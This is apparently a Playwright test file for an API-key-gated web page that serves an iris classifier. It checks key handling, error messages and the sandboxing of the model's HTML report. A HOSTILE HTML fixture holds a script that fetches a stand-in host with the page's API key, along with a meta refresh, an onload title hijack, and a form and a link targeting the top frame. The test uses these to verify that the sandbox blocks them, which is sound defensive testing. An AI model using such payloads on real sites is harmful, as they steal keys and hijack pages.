"""The pages where a key is asked for, in a real browser: nothing of the model before the key, all of it after."""

import http.server
import threading
from collections.abc import Callable, Iterator

import pytest
from playwright.sync_api import BrowserContext, Page, Route, expect

from tests.page.gateway import KEY

Service = Callable[[str], str]

OF_THE_MODEL = ("setosa", "sepal", "LogisticRegression", "accuracy")

ASKS = "The service asks for an API key."
UNKNOWN = "The service does not know this API key."

HOSTILE = """<!doctype html><html lang="en"><head><title>Report</title><style>h1 { color: rgb(1, 2, 3) }</style>
<meta http-equiv="refresh" content="0; url=ELSEWHERE/refreshed"></head>
<body onload="top.document.title = 'owned'">
<h1>A report</h1><script>parent.document.title = "owned"; fetch("ELSEWHERE/" + parent.key)</script>
<img src="ELSEWHERE/pixel.png" alt=""><iframe src="ELSEWHERE/frame"></iframe>
<form action="ELSEWHERE/form" target="_top"><button>Send</button></form>
<a href="ELSEWHERE/link" target="_top">Away</a></body></html>"""


def give_key(page: Page, key: str = KEY) -> None:
    page.get_by_label("API key").fill(key)
    page.get_by_role("button", name="Continue").click()


@pytest.mark.parametrize("path", ["", "docs", "docs/"])
def test_before_the_key_a_page_asks_for_it_and_shows_nothing_of_the_model(page: Page, stage: str, path: str) -> None:
    page.goto(stage + path)
    expect(page.get_by_role("alert")).to_have_text(ASKS)
    expect(page.get_by_label("API key")).to_be_focused()
    for word in OF_THE_MODEL:
        assert word not in page.content()
    give_key(page, "wrong")
    expect(page.get_by_role("alert")).to_have_text(UNKNOWN)
    for word in OF_THE_MODEL:
        assert word not in page.content()
    give_key(page)
    expect(page.get_by_text("iris" if path == "" else "iris: predictions", exact=path == "").first).to_be_visible()
    expect(page.get_by_label("API key")).to_be_hidden()


@pytest.mark.parametrize("path", ["", "docs"])
def test_the_key_is_kept_nowhere_and_goes_to_the_service_alone(page: Page, stage: str, path: str) -> None:
    asked: list[tuple[str, str | None]] = []
    page.on("request", lambda request: asked.append((request.url, request.headers.get("x-api-key"))))
    page.goto(stage + path)
    give_key(page)
    expect(page.get_by_label("API key")).to_be_hidden()
    kept = page.evaluate("[localStorage.length, sessionStorage.length, document.cookie, location.href]")
    assert kept == [0, 0, "", stage + path]
    assert page.context.cookies() == []
    assert KEY not in page.content()
    with_key = [url for url, key in asked if key == KEY]
    assert with_key
    assert all(url.startswith(stage) for url in with_key)
    page.reload()
    expect(page.get_by_role("alert")).to_have_text(ASKS)
    expect(page.get_by_label("API key")).to_have_value("")


@pytest.mark.parametrize("typed", ["schlüssel", "two words", "…"])
def test_a_text_that_can_be_no_key_is_asked_for_again(page: Page, stage: str, typed: str) -> None:
    page.goto(stage)
    give_key(page, typed)
    expect(page.get_by_role("alert")).to_have_text(UNKNOWN)
    give_key(page)
    expect(page.locator("#prediction")).not_to_have_text("…")


def test_where_no_key_is_asked_for_none_is_asked_of_the_person(page: Page, service: Service) -> None:
    page.goto(service("iris"))
    expect(page.locator("#prediction")).not_to_have_text("…")
    expect(page.get_by_label("API key")).to_be_hidden()
    page.goto(f"{service('iris')}/docs")
    expect(page.get_by_role("heading", name="iris: predictions")).to_be_visible()
    expect(page.get_by_label("API key")).to_be_hidden()


@pytest.mark.parametrize("path", ["", "/docs"])
@pytest.mark.parametrize(
    ("status", "sentence"),
    [(503, "No model can be served yet, says the service."), (429, "Too many requests at once: wait a second.")],
)
def test_a_refusal_is_told_in_the_services_own_words_and_can_be_tried_again(
    page: Page, service: Service, path: str, status: int, sentence: str
) -> None:
    def refuse(route: Route) -> None:
        route.fulfill(status=status, json={"error": sentence, "code": "a_code", "request_id": "1", "details": []})

    asked = "**/openapi.json" if path else "**/model"
    page.route(asked, refuse)
    page.goto(service("iris") + path)
    expect(page.get_by_role("alert")).to_have_text(sentence)
    expect(page.get_by_label("API key")).to_be_hidden()
    page.unroute(asked)
    page.get_by_role("button", name="Try again").click()
    expect(page.get_by_role("button", name="Try again")).to_be_hidden()
    expect(page.get_by_text("iris").first).to_be_visible()


def test_a_service_that_is_not_there_is_told_and_can_be_tried_again(page: Page, service: Service) -> None:
    page.route("**/model", lambda route: route.abort())
    page.goto(service("iris"))
    expect(page.get_by_role("alert")).to_have_text("The service could not be reached, or its answer not be read.")
    page.unroute("**/model")
    page.get_by_role("button", name="Try again").click()
    expect(page.locator("#prediction")).not_to_have_text("…")


def test_a_key_that_stops_working_is_asked_for_again_and_the_page_goes_on(page: Page, stage: str) -> None:
    page.goto(stage)
    give_key(page)
    expect(page.locator("#prediction")).not_to_have_text("…")
    page.route("**/predict", lambda route: route.fulfill(status=403, json={"error": "no", "code": "invalid_api_key"}))
    page.get_by_role("slider", name="petal length").press("Home")
    expect(page.locator("#says")).to_have_text(UNKNOWN)
    page.unroute("**/predict")
    give_key(page)
    expect(page.get_by_label("API key")).to_be_hidden()
    expect(page.locator("#result")).not_to_have_class("answer stale")


@pytest.mark.parametrize("keyed", [True, False])
def test_the_report_is_shown_in_a_frame_with_an_empty_sandbox(
    page: Page, stage: str, service: Service, keyed: bool
) -> None:
    page.goto(stage if keyed else service("iris"))
    if keyed:
        give_key(page)
    page.get_by_role("button", name="Show the report").click()
    frame = page.locator("iframe")
    expect(frame).to_be_visible()
    assert frame.get_attribute("sandbox") == ""
    page.mouse.wheel(0, 1500)
    page.wait_for_timeout(200)
    covered = (
        "e => { const r = e.getBoundingClientRect(); return document.elementFromPoint(r.right - 9, r.top + 9) !== e }"
    )
    assert not frame.evaluate(covered), "something stands over the report"
    report = page.frame_locator("iframe")
    expect(report.get_by_role("heading", level=1)).to_contain_text("iris 2")
    expect(report.get_by_role("img", name="Confusion matrix")).to_be_visible()
    # The report's own style sheet holds there, and so do the styles of its pictures.
    assert report.locator("table").first.evaluate("e => getComputedStyle(e).borderCollapse") == "collapse"
    assert report.locator("svg path[style]").first.evaluate("e => getComputedStyle(e).fill") != "rgb(0, 0, 0)"


@pytest.fixture
def elsewhere() -> Iterator[tuple[str, list[str]]]:
    """Another origin, and the paths that it was asked for."""
    asked: list[str] = []

    class Elsewhere(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            asked.append(self.path)
            self.send_error(404)

        do_POST = do_GET

        def log_message(self, *_: object) -> None:
            """Say nothing."""

    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), Elsewhere) as server:
        thread = threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.05})
        thread.start()
        yield f"http://127.0.0.1:{server.server_port}", asked
        server.shutdown()
        thread.join()


def test_a_hostile_report_runs_nothing_and_reaches_nobody(
    context: BrowserContext, service: Service, elsewhere: tuple[str, list[str]]
) -> None:
    page = context.new_page()
    place, asked = elsewhere
    html = HOSTILE.replace("ELSEWHERE", place)
    page.route("**/report", lambda route: route.fulfill(content_type="text/html", body=html))
    page.goto(service("iris"))
    page.get_by_role("button", name="Show the report").click()
    report = page.frame_locator("iframe").first
    expect(report.get_by_role("heading", name="A report")).to_have_css("color", "rgb(1, 2, 3)")
    report.get_by_role("button", name="Send").click()
    report.get_by_role("link", name="Away").click()
    page.wait_for_timeout(500)
    assert page.title() == "Try iris"
    assert page.url.rstrip("/") == service("iris")
    assert asked == []


def test_a_model_without_a_report_says_so(page: Page, service: Service) -> None:
    page.goto(service("regression"))
    page.get_by_role("button", name="Show the report").click()
    expect(page.locator("#report-says")).to_contain_text("was published without a report")
    expect(page.locator("iframe")).to_be_hidden()
